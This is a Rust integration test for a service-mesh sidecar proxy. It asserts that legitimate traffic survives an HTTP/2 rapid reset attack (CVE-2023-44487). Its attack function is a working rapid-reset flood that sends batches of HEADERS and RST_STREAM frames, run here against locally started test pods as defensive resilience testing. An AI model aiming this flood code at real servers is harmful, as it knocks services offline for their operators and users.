//! HTTP/2 rapid reset (CVE-2023-44487) against a client's sidecar whose upstream is another
//! sidecar over one shared HTTP/2 connection. The attacker's own connections are cut by the
//! sidecar it talks to; the streams that sidecar had already forwarded and then cancelled
//! must not look like an attack to the next sidecar, so the legitimate requests sharing
//! that connection are all answered.

use tokio::net::TcpStream;
use weft_tests::h2raw::{END_HEADERS, END_STREAM, HEADERS, RST_STREAM, frame, get_block, preface};
use weft_tests::mesh::Mesh;
use weft_tests::proxy::Proxy;

use crate::ServerPod;

/// One attacking connection, written frame by frame as an attacker would: 50 streams'
/// HEADERS, then their RST_STREAMs, over and over, until the sidecar ends the connection or
/// `n` streams have gone. Returns how many it sent.
async fn attack(addr: std::net::SocketAddr, n: u32) -> u32 {
    use tokio::io::{AsyncReadExt, AsyncWriteExt};
    let Ok(tcp) = TcpStream::connect(addr).await else {
        return 0;
    };
    let (mut rx, mut tx) = tcp.into_split();
    // Whatever the sidecar sends (SETTINGS, GOAWAY) is read and dropped.
    let reader = tokio::spawn(async move {
        let mut buf = [0u8; 4096];
        while matches!(rx.read(&mut buf).await, Ok(n) if n > 0) {}
    });
    if tx.write_all(&preface()).await.is_err() {
        return 0;
    }
    let block = get_block("reviews.shop:8080", "/drip/1");
    let mut sent = 0;
    while sent < n {
        // A batch of streams, and once the sidecar has had a moment to forward them, their
        // resets: what the next sidecar sees cancelled is what this one forwarded.
        let (mut heads, mut resets) = (Vec::new(), Vec::new());
        for _ in 0..50 {
            let id = 2 * sent + 1;
            heads.extend(frame(HEADERS, END_STREAM | END_HEADERS, id, &block));
            resets.extend(frame(RST_STREAM, 0, id, &0x8u32.to_be_bytes()));
            sent += 1;
        }
        if tx.write_all(&heads).await.is_err() {
            break;
        }
        tokio::time::sleep(std::time::Duration::from_millis(2)).await;
        if tx.write_all(&resets).await.is_err() {
            break;
        }
    }
    drop(tx);
    let _ = tokio::time::timeout(std::time::Duration::from_secs(5), reader).await;
    sent
}

#[tokio::test]
async fn a_rapid_reset_attack_on_one_sidecar_costs_the_others_nothing() {
    let server = ServerPod::start("reviews").await;
    let config = Mesh::new("client")
        .service("shop", "reviews", None, 8080, &[server.endpoint()])
        .build();
    let client = Proxy::start(weft_tests::pods::pod_ip(), &config, &[]).await;
    let outbound = client.outbound;

    // Legitimate clients, HTTP/1 on their own connections, all carried to the server's
    // sidecar over the one HTTP/2 connection the attack's streams share.
    let legit = weft_tests::legit::start(outbound, "http://reviews.shop:8080/drip/1", 8);
    // The attack: connection after connection for five seconds, each resetting up to
    // 20,000 streams.
    let mut opened = 0;
    let until = std::time::Instant::now() + std::time::Duration::from_secs(5);
    let mut attacks = 0;
    while std::time::Instant::now() < until && attacks < 1_000 {
        opened += attack(outbound, 20_000).await;
        attacks += 1;
    }
    let mut served = legit.stop().await;
    let (_, peak) = client.memory_kib();
    eprintln!(
        "rapid reset: {opened} streams opened and reset over {attacks} connections; client sidecar peak RSS {peak} KiB; legitimate: {}",
        served.summary()
    );
    assert!(served.ok > 0);
    assert!(
        served.failed.is_empty(),
        "{:?}\n{}",
        served.failed,
        server.proxy.log()
    );
}
